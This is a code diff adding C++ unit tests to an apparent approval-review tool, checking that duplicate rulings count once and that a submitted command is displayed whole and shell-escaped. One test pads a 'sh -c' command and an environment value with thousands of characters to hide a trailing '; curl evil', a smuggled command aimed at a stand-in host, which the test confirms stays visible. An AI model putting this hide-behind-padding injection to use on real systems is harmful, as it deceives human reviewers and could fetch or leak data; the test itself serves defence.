@@ -313,6 +313,9 @@ TEST(Review, CountsRulingsThatHold) {
   const api::KeptRuling good{h.world.reviewer.id(), true, h.ruling(0, RulingDecision::kApprove)};
   EXPECT_EQ(counted(good).approved, 1);
   EXPECT_TRUE(counted(good).own.has_value());
+  ReviewInput twice = *h.input;
+  twice.detail.rulings = {good, good};
+  EXPECT_EQ(must(check_review(twice)).policies[0].approved, 1) << "one person is one";
   api::KeptRuling open = good;
   open.taken = false;
   EXPECT_EQ(counted(open).approved, 0);
@@ -328,6 +331,23 @@ TEST(Review, CountsRulingsThatHold) {
   of_another.ruling =
       must(records::sign(h.world.set.id(), of_another.ruling.body, h.world.reviewer.key));
   EXPECT_EQ(counted(of_another).approved, 0);
+}
+
+// What runs on the data is shown to its last byte, and where one word ends and the next begins.
+TEST(Review, TheCommandIsShownWhole) {
+  Held h;
+  const auto opened = h.open();
+  ASSERT_TRUE(opened.ok()) << opened.error().line();
+  auto& spec = h.input->detail.submission.submission.body.spec.spec;
+  const std::string end = "; curl evil";
+  spec.command = {"sh", "-c", std::string(4000, 'x') + end};
+  spec.args = {"a b", "it's", "\xe2\x80\x8b"};
+  spec.env = {{std::string(300, 'N') + "E", std::string(4000, 'v') + end}};
+  const std::string text = review_text(*h.input, *opened);
+  EXPECT_NE(text.find("x" + end + "' 'a b' 'it'\\''s' '\\xe2\\x80\\x8b'\n"), std::string::npos)
+      << text;
+  EXPECT_NE(text.find("NE='vv"), std::string::npos);
+  EXPECT_NE(text.find("v" + end + "'\n"), std::string::npos);
 }
 
 // A study's text moves no terminal and speaks no line of this program.
